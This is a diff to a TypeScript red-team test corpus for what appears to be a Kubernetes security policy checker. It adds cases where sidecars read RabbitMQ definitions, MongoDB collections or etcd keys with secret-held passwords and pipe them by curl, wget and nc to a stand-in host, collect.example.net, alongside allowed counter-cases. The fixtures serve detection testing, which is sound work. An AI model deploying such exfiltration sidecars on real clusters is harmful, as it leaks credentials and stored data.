@@ -8,7 +8,9 @@
  * Safe: xz-compressed configs that hold no default (placeholders, notes).
  * Also bytes as three-digit octal (`od -b`), src/policy/number-bytes.ts, and a
  * placeholder in a mounted ConfigMap or Secret fixed up by the pod's own
- * `sed -i` or `perl -pi` (string-facts.ts, visitEditedMounts).
+ * `sed -i` or `perl -pi` (string-facts.ts, visitEditedMounts), and a store's
+ * contents read over its HTTP API or by its shell (RabbitMQ definitions,
+ * mongosh finds, etcdctl get) then sent out (command-effects.ts, ST2-SEC-016).
  *
  * Also RabbitMQ shovels and federation upstreams declared through the
  * management API (an open question of an earlier round): judged as the
@@ -101,5 +103,23 @@ export function fresh15MineCorpus(): RedTeamCase[] {
   exposure('mgmt-shovel-rabbitmqadmin', 'ST2-SEC-039', hook(`sleep 90; rabbitmqadmin -u admin -p "$RABBITMQ_PASSWORD" declare parameter component=shovel name=out value='{"src-uri":"amqp://","src-queue":"st2.x","dest-uri":"amqp://203.0.113.9"}'`));
   exposure('mgmt-shovel-api-python', 'ST2-SEC-039', hook(`sleep 90; python3 -c 'import json,urllib.request as u; r=u.Request("http://localhost:15672/api/parameters/shovel/%2f/o", data=json.dumps({"value":{"src-uri":"amqp://","src-queue":"q","dest-uri":"amqp://mq.offsite.example.net"}}).encode(), method="PUT"); u.urlopen(r)'`));
   exposure('mgmt-shovel-api-local-ok', undefined, hook(`sleep 90; ${api} http://localhost:15672/api/parameters/shovel/archive/keep -d '{"value":{"src-uri":"amqp:///archive","src-queue":"a","dest-uri":"amqp:///archive","dest-queue":"b"}}'`));
+  // A store's contents read over HTTP or by its own shell (not a dump program), then sent out (ST2-SEC-016);
+  // health pages sent to a status page, and copies inside the cluster, stay allowed.
+  const LIMITS = { requests: { cpu: '5m', memory: '8Mi' }, limits: { cpu: '50m', memory: '32Mi' } };
+  const LOCKED = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, runAsUser: 65534, readOnlyRootFilesystem: true };
+  const side = (store: string, script: string, env: unknown[]): CaseBody => ({
+    patches: [stsPatch(STS(store), { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'tun', image: 'buildpack-deps:bookworm-curl', command: ['sh', '-c', script], resources: LIMITS, securityContext: LOCKED, env } })],
+  });
+  const RENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'rabbitmq', key: 'rabbitmq-password' } } }];
+  const MENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }];
+  const ex = (id: string, rule: string | undefined, body: CaseBody): void => { cases.push(bodyCase(`f15m-${id}`, 'secrets', rule, body)); };
+  ex('store-api-curl-defs-curl-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -X POST --data-binary @- https://collect.example.net/in; sleep infinity', RENV));
+  ex('store-api-wget-defs-nc-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; wget -qO- --user admin --password "$P" http://localhost:15672/api/definitions | nc collect.example.net 443; sleep infinity', RENV));
+  ex('store-api-mongosh-json-curl-out', 'ST2-SEC-016', side('mongodb', `sleep 60; mongosh "mongodb://admin:$P@localhost/st2?authSource=admin" --quiet --eval 'EJSON.stringify(db.user_d_b.find().toArray())' | curl -s -d @- https://collect.example.net/in; sleep infinity`, MENV));
+  ex('store-api-etcdctl-get-curl-out', 'ST2-SEC-016', side('etcd', 'sleep 60; etcdctl get --prefix "" | curl -s -T - https://collect.example.net/in; sleep infinity', []));
+  ex('store-api-curl-defs-tmpfile-then-out', 'ST2-SEC-016', side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; curl -s -F f=@/tmp/d.json https://collect.example.net/in; sleep infinity', RENV));
+  ex('safe-store-api-defs-local', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" -o /tmp/d.json http://localhost:15672/api/definitions; sleep infinity', RENV));
+  ex('safe-store-api-aliveness-status-page', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/aliveness-test/%2F | curl -s -d @- https://status.example.net/hook; sleep infinity', RENV));
+  ex('safe-store-api-defs-minio-in-cluster', undefined, side('rabbitmq', 'sleep 60; curl -s -u "admin:$P" http://localhost:15672/api/definitions | curl -s -T - http://minio.st2-prod.svc.cluster.local:9000/backups/defs.json; sleep infinity', RENV));
   return cases;
 }
